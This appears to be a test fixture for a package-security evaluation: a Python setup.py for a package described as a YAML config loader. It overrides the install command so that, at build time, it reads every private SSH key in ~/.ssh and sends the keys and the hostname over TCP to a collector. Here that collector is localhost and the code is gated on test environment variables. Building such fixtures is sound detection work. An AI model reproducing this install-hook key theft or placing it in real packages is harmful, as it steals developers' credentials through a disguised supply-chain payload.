# Evaluation fixture (malicious): an overridden install command (run by
# bdist_wheel while pip builds the wheel) sends every private SSH key to a
# collector at a hard-coded address over raw TCP.  Acts only inside the
# evaluation: the collector is 127.0.0.1 at SP_SINK_PORT.
import glob
import os
import socket

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        port = int(os.environ.get("SP_SINK_PORT", "0"))
        if port and os.environ.get("SP_TOKEN"):
            blob = b""
            for key in glob.glob(os.path.expanduser("~/.ssh/id_*")):
                if not key.endswith(".pub"):
                    with open(key, "rb") as f:
                        blob += b"== " + key.encode() + b"\n" + f.read()
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                    s.sendall(socket.gethostname().encode() + b"\n" + blob)
            except OSError:
                pass
        super().run()


setup(
    name="ssh-key-tcp",
    version="0.9.2",
    description="YAML config loader",
    py_modules=["yconfload"],
    cmdclass={"install": Install},
)
